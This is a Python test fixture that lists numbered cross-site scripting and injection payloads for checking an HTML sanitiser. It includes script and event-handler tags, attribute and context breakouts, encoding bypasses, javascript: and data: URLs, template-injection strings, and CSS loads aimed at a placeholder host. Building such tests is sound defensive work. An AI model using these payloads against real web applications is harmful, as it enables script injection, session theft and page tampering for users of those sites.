"""Texts that try to run as script, by where they would have to land. Each calls ``hit(NUMBER)``, and asks a server that
is not there for ``NUMBER``: that nothing is run and nothing is asked is what the tests look for."""

# ruff: noqa: E501  (tables of texts)
from __future__ import annotations

TAGS = [
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script src=//x.invalid/N></script>", "<script\n>{}</script\n>",
    "<script/x>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<script type=module>{}</script>",
    "<script>{}//", "<script>{}<!--", "<!--<script>-->{}</script>", "<script xmlns='http://www.w3.org/1999/xhtml'>{}</script>",
    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<img src=x:x onerror='{}'>", "<IMG SRC=x ONERROR={}>",
    "<img/src=x/onerror={}>", "<img src=x onerror\n=\n{}>", "<img src=`x` onerror={}>", "<img srcset=//x.invalid/N>",
    "<image src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=onload to={}></svg>", "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{}</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></foreignObject></svg>", "<svg><style><img src=x onerror={}></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    "<math href=javascript:{}>x</math>", "<iframe src=javascript:{}></iframe>", "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src=//x.invalid/N>", "<object data=javascript:{}>", "<object data='data:text/html,<script>{}</script>'>",
    "<embed src=javascript:{}>", "<embed src=//x.invalid/N>", "<link rel=stylesheet href=//x.invalid/N>",
    "<link rel=preload as=script href=//x.invalid/N>", "<base href=//x.invalid/N/>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=//x.invalid/N'>", "<body onload={}>", "<body background=//x.invalid/N>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<details open ontoggle={}>x",
    "<video><source onerror={}></video>", "<video poster=//x.invalid/N>", "<audio src=x onerror={}>", "<marquee onstart={}>x</marquee>",
    "<form action=javascript:{}><button>x", "<form><button formaction=javascript:{}>x", "<a href=javascript:{}>x</a>",
    "<a href='java&#10;script:{}'>x</a>", "<a href='&#106;avascript:{}'>x</a>", "<a href=\"\x01javascript:{}\">x</a>".replace("\x01", ""),
    "<div style=\"background:url(//x.invalid/N)\">", "<div style=\"animation:x\" onanimationstart={}>", "<xss onclick={} tabindex=1>x",
    "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<style>@import '//x.invalid/N';</style>", "<style>*{{background:url(//x.invalid/N)}}</style>", "<isindex action=javascript:{} type=image>",
    "<dialog open onclose={}>", "<portal src=//x.invalid/N>", "<slot onslotchange={}>", "<custom-x onpointerenter={} style=position:fixed;inset:0>",
]  # fmt: skip
BREAKS = [
    "\"><script>{}</script>", "'><script>{}</script>", "></textarea><script>{}</script>", "</title><script>{}</script>",
    "</style><script>{}</script>", "</script><script>{}</script>", "</noscript><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "</svg><script>{}</script>", "</text></svg><img src=x onerror={}>", "</template><img src=x onerror={}>",
    "\" onmouseover=\"{}", "' onfocus='{}' autofocus='", "\" autofocus onfocus={} x=\"", "` onerror={} `", "x onerror={}",
    "\" style=\"x:expression({})", "\";{};//", "';{};//", "`;{};//", "\\\";{};//", "\\';{};//", "${{{}}}", "*/{}/*", "\n{}\n",
    "\u2028{}\u2029", "\\u2028{}//", "</scr\u0131pt><script>{}</script>", "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "}};{};{{", "\"}}]}};{};//", "\"]}}</script><script>{}</script>",
    "</SCRIPT ><script>{}</script>", "<!--\"><img src=x onerror={}>", "<![CDATA[<script>{}</script>]]>", "<?xml-stylesheet href='javascript:{}'?>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "&amp;lt;script>{}", "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "＜script＞{}＜/script＞", "\u202e<script>{}</script>", "<\u200bscript>{}</script>",
]  # fmt: skip
TEMPLATES = [
    "{{{{{}}}}}", "{{{{constructor.constructor('{}')()}}}}", "{{% import os %}}{{{{ os }}}}{}", "<%= {} %>", "#{{{}}}", "[[{}]]",
    "{{css}}{}", "{{payload}}{}", "{{nonce}}<script nonce={{nonce}}>{}</script>", "{{imports}}{}",
]  # fmt: skip
ADDRESSES = [
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "javascript&colon;{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=", "vbscript:{}", "//x.invalid/N", "https://x.invalid/N", "file:///etc/passwd?N",
    "blob:{}", "view-source:javascript:{}", "\\\\x.invalid\\N",
]  # fmt: skip
STYLES = [
    "\";}}*{{background:url(//x.invalid/N)}}", "red;background:url(//x.invalid/N)", "\\22;}}@import url(//x.invalid/N);/*",
    "</style><img src=x onerror={}>", "expression({})", "-moz-binding:url(//x.invalid/N)", "url(javascript:{})",
]  # fmt: skip


def payloads() -> list[str]:
    """Every payload with its number in it."""
    found = []
    for number, pattern in enumerate([*TAGS, *BREAKS, *TEMPLATES, *ADDRESSES, *STYLES]):
        found.append(
            pattern.format(f"hit({number})").replace("/N", f"/{number}").replace("\\N", f"\\{number}")
        )
    return found
